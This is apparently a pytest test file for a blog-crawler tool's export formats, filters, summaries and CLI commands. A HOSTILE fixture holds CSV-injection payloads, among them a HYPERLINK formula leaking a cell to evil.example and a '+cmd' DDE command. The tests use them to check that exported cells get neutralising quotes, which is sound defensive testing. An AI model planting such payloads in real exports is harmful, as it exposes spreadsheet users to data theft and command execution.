"""Exports and summaries: OPML, CSV, JSON lines, GraphML and edge lists of stored blogs, their
filters, `scrapy export` / `scrapy stats`, and the crawl summary extension.

Data goes through the real :class:`~blogfeeds.storage.db.Store` (SQLite, and the local MariaDB
when it answers) and comes back through the export; nothing is mocked.
"""

from __future__ import annotations

import csv
import io
import json
import logging
import os
import sqlite3
import subprocess
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from lxml import etree
from scrapy.exceptions import NotConfigured
from scrapy.utils.test import get_crawler

from blogfeeds.commands.export import (
    BLOG_COLUMNS,
    FORMATS,
    Filters,
    degrees,
    export,
    select,
    xml_text,
)
from blogfeeds.crawl.seeds import load_seeds
from blogfeeds.extensions.summary import CrawlSummary, platform_label, summarize
from blogfeeds.extract.platform import platform_of
from blogfeeds.failures import STATUSES
from blogfeeds.items import Blog, FeedInfo, FriendLink
from blogfeeds.storage.connection import connect
from blogfeeds.storage.db import Store
from blogfeeds.storage.feedstore import FeedStore, iso, iso_minutes
from blogfeeds.storage.schema import DIALECTS, pending_migrations, url_hash
from tests import blogosphere as bs

REPO = Path(__file__).resolve().parent.parent


def blog(bid: str, **fields: Any) -> Blog:
    feed = fields.pop("feed", f"https://{bid}/atom.xml")
    feeds = [FeedInfo(feed, "application/atom+xml", "Atom", 9.0, [])] if feed else []
    base = {"url": f"https://{bid}/", "title": bid.split(".", 1)[0].title(), "language": "en"}
    base.update(
        generator="Hugo 0.140.0", feed_url=feed, feeds=feeds, status="ok" if feed else "no_feed"
    )
    base.update(fetched_at="2026-11-29T20:00:00Z")
    base.update(fields)
    found = platform_of(base["generator"])  # as the crawl sets them
    base.setdefault("platform", found.name)
    base.setdefault("platform_version", found.version)
    return Blog(blog_id=bid, **base)


def link(source: str, target: str, url: str | None = None, name: str = "") -> FriendLink:
    return FriendLink(
        source_blog_id=source,
        target_url=url or f"https://{target}/",
        target_blog_id=target,
        name=name or target,
        container_score=1000.0,
        source_url=f"https://{source}/links/",
    )


BLOGS = [
    blog("alice.example", title="Alice & <Bob>'s \"notes\" \x07", language="zh-CN",
         generator="Hexo 7.3.0"),
    blog("bob.example", language="zh-TW", generator="Hexo 6.0"),
    blog("carol.example", feed=None, language="en-GB"),
    blog("dave.example", title="Dave 🚀 博客", generator="WordPress 6.4.2"),
    blog("erin.example", feed=None, status="http_4xx", title="", language="", generator=""),
    # a mirror: the same feed as bob (listed once in the OPML)
    blog("bob-mirror.example", feed="https://bob.example/atom.xml"),
]  # fmt: skip
LINKS = [
    link("alice.example", "bob.example"),
    link("alice.example", "bob.example", "https://bob.example/about/"),  # same pair twice
    link("alice.example", "carol.example"),
    link("alice.example", "alice.example", "https://alice.example/me/"),  # self-link
    link("bob.example", "alice.example"),
    link("carol.example", "bob.example", name='Bob, the one with a "feed"'),
    link("dave.example", "bob.example"),
    link("dave.example", "zed.example"),  # not crawled
]
IN_DEGREE = {"bob.example": 3, "alice.example": 1, "carol.example": 1, "zed.example": 1}
OUT_DEGREE = {"alice.example": 2, "bob.example": 1, "carol.example": 1, "dave.example": 2}


def mariadb_url() -> Iterator[str]:
    """A throwaway database on the local MariaDB (skip when it does not answer)."""
    import pymysql

    try:
        admin = pymysql.connect(host="127.0.0.1", user="root", connect_timeout=2, autocommit=True)
    except pymysql.Error:
        pytest.skip("MariaDB does not answer at 127.0.0.1:3306")
    name = f"blogfeeds_test_{os.getpid()}_export"
    with admin.cursor() as cursor:
        cursor.execute(f"DROP DATABASE IF EXISTS {name}")
        cursor.execute(f"CREATE DATABASE {name} CHARACTER SET utf8mb4 COLLATE utf8mb4_unicode_ci")
    try:
        yield f"mysql://root@127.0.0.1:3306/{name}"
    finally:
        with admin.cursor() as cursor:
            cursor.execute(f"DROP DATABASE IF EXISTS {name}")
        admin.close()


@pytest.fixture(
    scope="module", params=["sqlite", pytest.param("mariadb", marks=pytest.mark.services)]
)
def stored(
    request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[tuple[list[dict[str, Any]], list[dict[str, Any]]]]:
    """The rows written by :class:`Store` and read back (SQLite, then MariaDB)."""
    if request.param == "sqlite":
        urls: Iterator[str] = iter([f"sqlite:///{tmp_path_factory.mktemp('db') / 'b.sqlite3'}"])
    else:
        urls = mariadb_url()
    for url in urls:
        with Store.open(url) as store:
            store.write(BLOGS, LINKS)
        with Store.open(url) as store:
            yield store.blogs(), store.friend_links()


def run_export(stored: Any, fmt: str, filters: Filters | None = None, **kw: Any) -> bytes:
    out = io.BytesIO()
    export(fmt, *stored, filters or Filters(), out, **kw)
    return out.getvalue()


# --- each format round-trips -------------------------------------------------------------------


def test_opml_lists_every_stored_feed_once(stored: Any) -> None:
    root = etree.fromstring(run_export(stored, "opml"))
    assert root.tag == "opml" and root.get("version") == "2.0"
    assert root.findtext("head/title")
    outlines = root.findall("body/outline")
    feeds = [o.get("xmlUrl") for o in outlines]
    stored_feeds = {b["feed_url"] for b in stored[0] if b["feed_url"]}
    assert sorted(feeds) == sorted(stored_feeds)  # every stored feed, each once
    alice = next(o for o in outlines if o.get("xmlUrl") == "https://alice.example/atom.xml")
    assert alice.get("type") == "rss"
    assert alice.get("text") == alice.get("title") == 'Alice & <Bob>\'s "notes"'  # \x07 dropped
    assert alice.get("htmlUrl") == "https://alice.example/"
    assert alice.get("language") == "zh-CN"


def test_opml_reads_back_as_seeds(stored: Any, tmp_path: Path) -> None:
    """The OPML is a seed list for the next crawl (blogfeeds' own OPML reader, which reads
    outlines the way feed readers do: xmlUrl the feed, htmlUrl the site, title/text the name)."""
    path = tmp_path / "feeds.opml"
    path.write_bytes(run_export(stored, "opml"))
    seeds, errors = load_seeds(seeds=str(path))
    assert errors == []
    assert sorted(s.feed_url or "" for s in seeds) == sorted(
        {b["feed_url"] for b in stored[0] if b["feed_url"]}
    )
    alice = next(s for s in seeds if s.url == "https://alice.example/")
    assert alice.title == 'Alice & <Bob>\'s "notes"'


def test_csv_round_trip(stored: Any) -> None:
    text = run_export(stored, "csv").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0]) == list(BLOG_COLUMNS)
    by_id = {r["blog_id"]: r for r in rows}
    assert set(by_id) == {b.blog_id for b in BLOGS}
    for b in BLOGS:
        row = by_id[b.blog_id]
        assert row["title"] == b.title  # CJK, emoji, quotes and control characters as stored
        assert row["feed_url"] == (b.feed_url or "")
        assert (row["generator"], row["platform"], row["platform_version"]) == (
            b.generator,
            b.platform,
            b.platform_version,
        )
        assert int(row["in_degree"]) == IN_DEGREE.get(b.blog_id, 0)
        assert int(row["out_degree"]) == OUT_DEGREE.get(b.blog_id, 0)


def test_jsonl_round_trip(stored: Any) -> None:
    lines = run_export(stored, "jsonl").decode("utf-8").splitlines()
    objs = {o["blog_id"]: o for o in map(json.loads, lines)}
    assert len(lines) == len(objs) == len(BLOGS)
    assert objs["dave.example"]["title"] == "Dave 🚀 博客"
    assert objs["alice.example"]["feeds"][0]["url"] == "https://alice.example/atom.xml"
    assert objs["bob.example"]["in_degree"] == 3
    assert objs["bob.example"]["generator"] == "Hexo 6.0"
    assert (objs["bob.example"]["platform"], objs["bob.example"]["platform_version"]) == (
        "Hexo",
        "6.0",
    )


def test_edges_csv(stored: Any) -> None:
    text = run_export(stored, "edges").decode("utf-8")
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert list(rows[0])[:3] == ["Source", "Target", "Label"]
    pairs = sorted((r["Source"], r["Target"]) for r in rows)
    # between stored blogs, each pair once, no self-link, zed (not crawled) left out
    assert pairs == [
        ("alice.example", "bob.example"),
        ("alice.example", "carol.example"),
        ("bob.example", "alice.example"),
        ("carol.example", "bob.example"),
        ("dave.example", "bob.example"),
    ]
    assert {r["Label"] for r in rows} >= {'Bob, the one with a "feed"'}
    everything = run_export(stored, "edges", all_targets=True).decode("utf-8")
    assert "dave.example,zed.example" in everything


HOSTILE = [
    blog("mallory.example", title='=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
         generator="+cmd|' /C calc'!A0", abstract="-2+3"),
    blog("trudy.example", title="@SUM(1+1)", generator="\tHugo", abstract="\r=1+1"),
    blog("plain.example", title="a = b - c", generator="Hugo 0.140.0", abstract="'quoted"),
]  # fmt: skip
HOSTILE_LINKS = [
    link("mallory.example", "trudy.example", name="=1+1"),
    link("trudy.example", "plain.example", name="-1"),
    link("plain.example", "mallory.example", name="plain"),
]


def test_csv_cells_a_spreadsheet_reads_as_formulas_are_quoted(tmp_path: Path) -> None:
    """Cells beginning with ``=``, ``+``, ``-``, ``@``, tab or CR (OWASP's CSV injection list)
    get a ``'`` before them in ``csv`` and ``edges``; ``raw`` writes them as stored."""
    with Store.open(f"sqlite:///{tmp_path / 'h.sqlite3'}") as store:
        store.write(HOSTILE, HOSTILE_LINKS)
        rows = store.blogs(), store.friend_links()

    def read(fmt: str, raw: bool = False) -> list[dict[str, str]]:
        text = run_export(rows, fmt, raw=raw).decode("utf-8")
        return list(csv.DictReader(io.StringIO(text, newline="")))

    blogs = {r["blog_id"]: r for r in read("csv")}
    assert blogs["mallory.example"]["title"] == (
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
    )
    assert blogs["mallory.example"]["generator"] == "'+cmd|' /C calc'!A0"
    assert blogs["mallory.example"]["abstract"] == "'-2+3"
    assert (blogs["trudy.example"]["title"], blogs["trudy.example"]["abstract"]) == (
        "'@SUM(1+1)",
        "'\r=1+1",
    )
    assert blogs["trudy.example"]["generator"] == "'\tHugo"
    # text that only holds the characters, or begins with a quote, is left alone
    assert (blogs["plain.example"]["title"], blogs["plain.example"]["abstract"]) == (
        "a = b - c",
        "'quoted",
    )
    assert blogs["plain.example"]["in_degree"] == "1"  # numbers stay numbers
    labels = {r["Source"]: r["Label"] for r in read("edges")}
    assert labels == {"mallory.example": "'=1+1", "trudy.example": "'-1", "plain.example": "plain"}
    raw = {r["blog_id"]: r for r in read("csv", raw=True)}
    for b in HOSTILE:
        assert (raw[b.blog_id]["title"], raw[b.blog_id]["generator"]) == (b.title, b.generator)
        assert raw[b.blog_id]["abstract"] == b.abstract
    assert {r["Label"] for r in read("edges", raw=True)} == {"=1+1", "-1", "plain"}


@pytest.mark.integration
def test_export_raw_option(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'h.sqlite3'}"
    with Store.open(url) as store:
        store.write(HOSTILE, HOSTILE_LINKS)
    quoted, raw = _scrapy("export", "edges", url=url), _scrapy("export", "edges", "--raw", url=url)
    assert quoted.returncode == raw.returncode == 0, quoted.stderr[-2000:] + raw.stderr[-2000:]
    assert "mallory.example,trudy.example,'=1+1," in quoted.stdout
    assert "mallory.example,trudy.example,=1+1," in raw.stdout


def test_graphml_loads_in_lxml_and_networkx(stored: Any) -> None:
    data = run_export(stored, "graphml", all_targets=True)
    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
    root = etree.fromstring(data)
    assert len(root.findall("g:graph/g:node", ns)) == len(BLOGS) + 1  # + zed.example
    assert len(root.findall("g:graph/g:edge", ns)) == 6
    nx = pytest.importorskip("networkx")
    graph = nx.read_graphml(io.BytesIO(data))
    assert graph.is_directed()
    assert graph.nodes["alice.example"]["feed"] == "https://alice.example/atom.xml"
    assert graph.nodes["alice.example"]["platform"] == "Hexo"
    assert graph.nodes["alice.example"]["platform_version"] == "7.3.0"
    assert "platform" not in graph.nodes["erin.example"]  # no generator
    assert graph.nodes["dave.example"]["title"] == "Dave 🚀 博客"
    assert graph.nodes["zed.example"]["in_degree"] == 1
    for node, attrs in graph.nodes(data=True):
        assert attrs["in_degree"] == IN_DEGREE.get(node, 0) == graph.in_degree(node)
        assert attrs["out_degree"] == OUT_DEGREE.get(node, 0) == graph.out_degree(node)


# --- filters -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("filters", "expected"),
    [
        (Filters(), {b.blog_id for b in BLOGS}),
        (Filters(statuses=frozenset({"no_feed", "http_4xx"})), {"carol.example", "erin.example"}),
        (Filters(languages=("zh",)), {"alice.example", "bob.example"}),
        (Filters(languages=("zh-tw", "en-gb")), {"bob.example", "carol.example"}),
        (Filters(min_in_degree=1), {"alice.example", "bob.example", "carol.example"}),
        (Filters(min_in_degree=2), {"bob.example"}),
        (
            Filters(has_feed=True),
            {"alice.example", "bob.example", "dave.example", "bob-mirror.example"},
        ),
        (Filters(has_feed=True, languages=("zh",), min_in_degree=2), {"bob.example"}),
        (Filters(platforms=frozenset({"hexo"})), {"alice.example", "bob.example"}),
        (Filters(platforms=frozenset({"wordpress", "(none)"})), {"dave.example", "erin.example"}),
    ],
)
def test_filters(stored: Any, filters: Filters, expected: set[str]) -> None:
    assert {b["blog_id"] for b in select(*stored, filters)} == expected


def test_filters_narrow_the_graph(stored: Any) -> None:
    data = run_export(stored, "graphml", Filters(min_in_degree=1))
    ns = {"g": "http://graphml.graphdrawing.org/xmlns"}
    root = etree.fromstring(data)
    nodes = {n.get("id") for n in root.findall("g:graph/g:node", ns)}
    edges = {(e.get("source"), e.get("target")) for e in root.findall("g:graph/g:edge", ns)}
    assert nodes == {"alice.example", "bob.example", "carol.example"}
    assert edges == {
        ("alice.example", "bob.example"),
        ("alice.example", "carol.example"),
        ("bob.example", "alice.example"),
        ("carol.example", "bob.example"),
    }


def test_degrees_count_distinct_pairs() -> None:
    links = [
        {"source_blog_id": a, "target_blog_id": b}
        for a, b in [("x", "y"), ("x", "y"), ("y", "x"), ("x", "x"), ("z", "y")]
    ]
    assert degrees(links) == ({"y": 2, "x": 1}, {"x": 1, "y": 1, "z": 1})


def test_unknown_format_and_xml_text() -> None:
    with pytest.raises(ValueError, match="unknown export format 'rss'"):
        export("rss", [], [], Filters(), io.BytesIO())
    assert xml_text("a\x00b\x1fc\ud800d\ttab") == "abcd\ttab"
    assert FORMATS == ("opml", "csv", "jsonl", "graphml", "edges")


# --- summaries ---------------------------------------------------------------------------------


def test_summary_of_stored_rows(stored: Any) -> None:
    s = summarize(*stored, top=2)
    assert (s.blogs, s.with_feed, s.links) == (6, 4, 8)
    assert s.by_status == {"ok": 4, "no_feed": 1, "http_4xx": 1}
    assert s.by_platform == {"Hexo": 2, "Hugo": 2, "WordPress": 1, "(none)": 1}
    assert s.top == [
        ("bob.example", "Bob", 3),
        ("alice.example", 'Alice & <Bob>\'s "notes" \x07', 1),
    ]
    text = s.render()
    assert "Blogs: 6, with a feed: 4 (67 %); friend links: 8" in text
    assert "By status: ok 4, http_4xx 1, no_feed 1" in text


def test_summary_counts_the_spellings_of_one_platform_once() -> None:
    """The issue's summary: ``WordPress 2, WordPress.com 2, Wordpress 1, blogger 2, Joomla! -
    Open Source Content Management 1`` is one count per platform."""
    generators = [
        "WordPress 6.4.2", "WordPress 5.3.2", "Wordpress", "WordPress.com", "WordPress.com",
        "blogger", "Blogger", "Joomla! - Open Source Content Management", "Me :)", "",
    ]  # fmt: skip
    blogs = [blog(f"b{n}.example", generator=g) for n, g in enumerate(generators)]
    rows = [{**vars(b), "feeds": []} for b in blogs]
    assert summarize(rows, []).by_platform == {
        "WordPress": 3,
        "WordPress.com": 2,
        "Blogger": 2,
        "Joomla": 1,
        "(unknown)": 1,
        "(none)": 1,
    }
    assert "By platform: WordPress 3, Blogger 2, WordPress.com 2, Joomla 1" in (
        summarize(rows, []).render()
    )


@pytest.mark.parametrize(
    ("platform", "generator", "label"),
    [
        ("Hexo", "Hexo 7.3.0", "Hexo"),
        ("", "Me :)", "(unknown)"),
        ("", " ", "(none)"),
        ("", "", "(none)"),
        (None, None, "(none)"),
    ],
)
def test_platform_label(platform: str | None, generator: str | None, label: str) -> None:
    assert platform_label(platform, generator) == label


def test_crawl_summary_extension(caplog: pytest.LogCaptureFixture, tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'blogs.sqlite3'}"
    earlier = Blog(blog_id="old.example", url="http://old.example/", status="dns")
    with Store.open(url) as store:  # as the storage pipeline leaves it, plus an earlier crawl's
        store.write([earlier, *BLOGS], LINKS)
    settings = {"BLOGFEEDS_SUMMARY_TOP": 1, "BLOGFEEDS_DATABASE_URL": url}
    crawler = get_crawler(settings_dict=settings)
    ext = CrawlSummary.from_crawler(crawler)
    for item in [*BLOGS, *LINKS]:
        ext.item_scraped(item)
    with caplog.at_level(logging.INFO, logger="blogfeeds.extensions.summary"):
        ext.spider_closed(None, "finished")
        assert "Crawl summary" not in caplog.text  # logged after Scrapy's stats dump:
        ext.engine_stopped()
    assert "Crawl summary (finished):\nBlogs: 6, with a feed: 4 (67 %)" in caplog.text
    assert "3  bob.example  Bob" in caplog.text
    # where the blogs are, and that the database keeps the earlier crawls' too
    assert caplog.text.rstrip().endswith(
        f"Database {url}: 7 blogs (1 from earlier crawls), {len(LINKS)} friend links in all; "
        "`scrapy stats` summarises them; another BLOGFEEDS_DATABASE_URL starts afresh"
    )
    off = get_crawler(settings_dict={"BLOGFEEDS_SUMMARY_ENABLED": False})
    with pytest.raises(NotConfigured):
        CrawlSummary.from_crawler(off)


# --- the commands ------------------------------------------------------------------------------


@pytest.mark.integration
def test_export_and_stats_commands(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'blogs.sqlite3'}"
    with Store.open(url) as store:
        store.write(BLOGS, LINKS)
    opml = tmp_path / "feeds.opml"
    env = {k: v for k, v in os.environ.items() if k not in {"MYSQL_URL", "REDIS_URL"}}
    env["BLOGFEEDS_DATABASE_URL"] = url
    scrapy = [sys.executable, "-m", "scrapy"]
    done = subprocess.run(
        [*scrapy, "export", "opml", "-o", str(opml), "--lang", "zh", "--has-feed"],
        cwd=REPO, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr[-2000:]
    assert "opml: 2 feeds written to" in done.stderr
    feeds = {o.get("xmlUrl") for o in etree.parse(str(opml)).getroot().iter("outline")}
    assert feeds == {"https://alice.example/atom.xml", "https://bob.example/atom.xml"}
    stats = subprocess.run(
        [*scrapy, "stats", "--json", "--top", "1"],
        cwd=REPO, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert stats.returncode == 0, stats.stderr[-2000:]
    summary = json.loads(stats.stdout)
    assert summary["blogs"] == 6 and summary["with_feed"] == 4
    assert summary["top_in_degree"] == [{"blog_id": "bob.example", "title": "Bob", "in_degree": 3}]
    assert summary["by_platform"] == {"Hexo": 2, "Hugo": 2, "WordPress": 1, "(none)": 1}
    assert summary["feeds_scheduled"] == 0 and summary["entries"] == 0
    # the feeds part: what `scrapy crawl feeds` scheduled and stored
    now = iso_minutes("2024-03-04T00:00:00Z")
    with FeedStore.open(url) as store:
        store.sync_feeds(now)
    stats = subprocess.run(
        [*scrapy, "stats", "--json"], cwd=REPO, env=env, capture_output=True, text=True, check=False
    )
    feeds = json.loads(stats.stdout)
    assert (feeds["feeds_scheduled"], feeds["feeds_by_status"]) == (3, {"new": 3})
    assert (feeds["entries"], feeds["latest_entry_seen"]) == (0, None)
    assert feeds["next_feed_due"] == iso(now)
    text = subprocess.run(
        [*scrapy, "stats"], cwd=REPO, env=env, capture_output=True, text=True, check=False
    ).stdout
    assert "Feeds scheduled: 3; by status: new 3\nEntries: 0\n" in text
    assert "Next feed due at 2024-03-04T00:00:00Z (overdue by " in text
    hexo = subprocess.run(
        [*scrapy, "stats", "--json", "--platform", "HEXO,wordpress"],
        cwd=REPO, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert hexo.returncode == 0, hexo.stderr[-2000:]
    assert json.loads(hexo.stdout)["by_platform"] == {"Hexo": 2, "WordPress": 1}
    missing = subprocess.run(
        [*scrapy, "export", "csv", "--database", f"sqlite:///{tmp_path / 'none.sqlite3'}"],
        cwd=REPO, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip
    assert missing.returncode != 0
    assert "no SQLite database at" in missing.stderr
    assert not (tmp_path / "none.sqlite3").exists()


@pytest.mark.integration
def test_a_reader_that_went_away_ends_export_and_stats_quietly(tmp_path: Path) -> None:
    """`scrapy stats | head -1`: no BrokenPipeError traceback, exit status 141 like a Unix tool
    killed by SIGPIPE (the pipe's reader is closed before the first byte: deterministic)."""
    url = f"sqlite:///{tmp_path / 'blogs.sqlite3'}"
    with Store.open(url) as store:
        store.write(BLOGS, LINKS)
    env = {k: v for k, v in os.environ.items() if k not in {"MYSQL_URL", "REDIS_URL"}}
    env["BLOGFEEDS_DATABASE_URL"] = url
    for args in (["stats"], ["stats", "--json"], ["export", "jsonl"], ["export", "graphml"]):
        read, write = os.pipe()
        os.close(read)
        try:
            done = subprocess.run(
                [sys.executable, "-m", "scrapy", *args],
                cwd=REPO, env=env, stdout=write, stderr=subprocess.PIPE, text=True, check=False,
            )  # fmt: skip
        finally:
            os.close(write)
        assert (done.returncode, done.stderr) == (141, ""), args


def _scrapy(*args: str, url: str | None = None) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if k not in {"MYSQL_URL", "REDIS_URL"}}
    if url:
        env["BLOGFEEDS_DATABASE_URL"] = url
    return subprocess.run(
        [sys.executable, "-m", "scrapy", *args],
        cwd=REPO, env=env, capture_output=True, text=True, check=False,
    )  # fmt: skip


@pytest.mark.integration
def test_an_unknown_format_and_a_missing_database_are_named() -> None:
    xml = _scrapy("export", "xml")
    assert xml.returncode == 2
    assert "error: unknown format 'xml'; give one of: opml, csv," in xml.stderr
    # a relative URL is read from the current folder: the message names the whole path
    stats = _scrapy("stats", url="sqlite:///no-such-crawl.sqlite3")
    assert stats.returncode == 2
    assert f"no SQLite database at '{REPO / 'no-such-crawl.sqlite3'}'" in stats.stderr


def _tables(url: str) -> set[str]:
    """The tables of the database at ``url``, read without changing anything."""
    if url.startswith("sqlite:///"):
        raw = sqlite3.connect(f"{Path(url[10:]).as_uri()}?mode=ro", uri=True)
        query = "SELECT name FROM sqlite_master WHERE type = 'table'"
    else:
        raw, query = connect(url).raw, "SHOW TABLES"
    try:
        cursor = raw.cursor()
        cursor.execute(query)
        return {row[0] for row in cursor.fetchall()}
    finally:
        raw.close()


@pytest.mark.integration
def test_export_and_stats_never_create_the_schema_in_an_empty_sqlite_file(tmp_path: Path) -> None:
    empty = tmp_path / "empty.sqlite3"
    empty.touch()
    url = f"sqlite:///{empty}"
    for args in (["export", "csv"], ["export", "opml", "-o", str(tmp_path / "x.opml")], ["stats"]):
        done = _scrapy(*args, "--database", url)
        assert done.returncode == 2, (args, done.stderr)
        assert "Traceback" not in done.stderr
        assert done.stderr.splitlines()[-1].endswith(
            f": error: cannot open {url}: no blogfeeds tables in this database "
            "(nothing was ever stored)"
        )
        assert done.stdout == ""
    assert empty.stat().st_size == 0
    assert not (tmp_path / "x.opml").exists()
    # a foreign SQLite database is left as it is too
    sqlite3.connect(tmp_path / "other.sqlite3").execute("CREATE TABLE notes (body TEXT)").close()
    other = f"sqlite:///{tmp_path / 'other.sqlite3'}"
    assert _scrapy("stats", "--database", other).returncode == 2
    assert _tables(other) == {"notes"}


@pytest.mark.integration
def test_export_reads_an_older_schema_without_migrating_it(tmp_path: Path) -> None:
    """A version-1 database (before feed_aliases, entries, schedule, feed_state and the platform
    columns) is read as it is: the export works, with the platforms of the stored generators,
    and the database stays at version 1."""
    path = tmp_path / "v1.sqlite3"
    raw = sqlite3.connect(path, isolation_level=None)
    for statement in dict(pending_migrations(0, DIALECTS["sqlite"]))[1]:
        raw.execute(statement)
    raw.execute("INSERT INTO schema_version VALUES (1, '2026-01-01T00:00:00Z')")
    columns = ("blog_id", "url", "title", "abstract", "language", "generator", "feed_url")
    columns += ("friend_count", "status", "depth", "first_seen", "fetched_at")
    raw.executemany(
        f"INSERT INTO blogs ({', '.join(columns)}) VALUES ({', '.join('?' * len(columns))})",
        [(*(getattr(b, c) for c in columns[:-2]), b.fetched_at, b.fetched_at) for b in BLOGS],
    )
    link_columns = ("source_blog_id", "target_blog_id", "target_url", "target_url_hash", "name")
    link_columns += ("container_score", "source_url", "first_seen", "last_seen")
    raw.executemany(  # the version-1 columns (a writer of today's code writes version 5's)
        f"INSERT INTO friend_links ({', '.join(link_columns)}) "
        f"VALUES ({', '.join('?' * len(link_columns))})",
        [
            (
                k.source_blog_id,
                k.target_blog_id,
                k.target_url,
                url_hash(k.target_url),
                k.name,
                k.container_score,
                k.source_url,
                "t",
                "t",
            )
            for k in LINKS
        ],
    )
    raw.close()
    url = f"sqlite:///{path}"
    before = _tables(url)
    done = _scrapy("export", "csv", "--database", url)
    assert done.returncode == 0, done.stderr
    rows = {r["blog_id"]: r for r in csv.DictReader(io.StringIO(done.stdout))}
    assert len(rows) == len(BLOGS)
    assert (rows["alice.example"]["platform"], rows["alice.example"]["platform_version"]) == (
        "Hexo",
        "7.3.0",
    )
    assert rows["erin.example"]["platform"] == ""
    assert _tables(url) == before
    assert "schedule" not in before
    with Store.open(url, read_only=True) as store:
        assert store.schema_version() == 1
        # never written: read-only (or, at version 1, without today's tables and columns)
        with pytest.raises(
            sqlite3.OperationalError, match=r"readonly|no column named avatar|no such table"
        ):
            store.write([], LINKS[:1])


@pytest.mark.integration
@pytest.mark.services
def test_stats_never_create_the_schema_in_an_empty_mariadb_database() -> None:
    if bs.mariadb_admin() is None:
        pytest.skip("MariaDB does not answer at 127.0.0.1:3306")
    with bs.throwaway_database("readonly") as url:
        for args in (["stats"], ["export", "jsonl"]):
            done = _scrapy(*args, "--database", url)
            assert done.returncode == 2, (args, done.stderr)
            assert "Traceback" not in done.stderr
            assert "no blogfeeds tables in this database" in done.stderr.splitlines()[-1]
        assert _tables(url) == set()


@pytest.mark.integration
def test_an_unknown_status_is_a_usage_error_naming_the_valid_ones(tmp_path: Path) -> None:
    url = f"sqlite:///{tmp_path / 'blogs.sqlite3'}"
    with Store.open(url) as store:
        store.write(BLOGS, LINKS)
    for args in (["export", "csv", "--status", "bogus"], ["stats", "--status", "ok,bogus"]):
        done = _scrapy(*args, url=url)
        assert (done.returncode, done.stdout) == (2, ""), done.stderr
        assert done.stderr.splitlines()[-1].endswith(
            f": error: unknown --status 'bogus'; expected one or more of {', '.join(STATUSES)}"
        )
    done = _scrapy("export", "csv", "--status", "http_4xx,no_feed", url=url)
    assert done.returncode == 0, done.stderr
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert {r["blog_id"] for r in rows} == {"carol.example", "erin.example"}
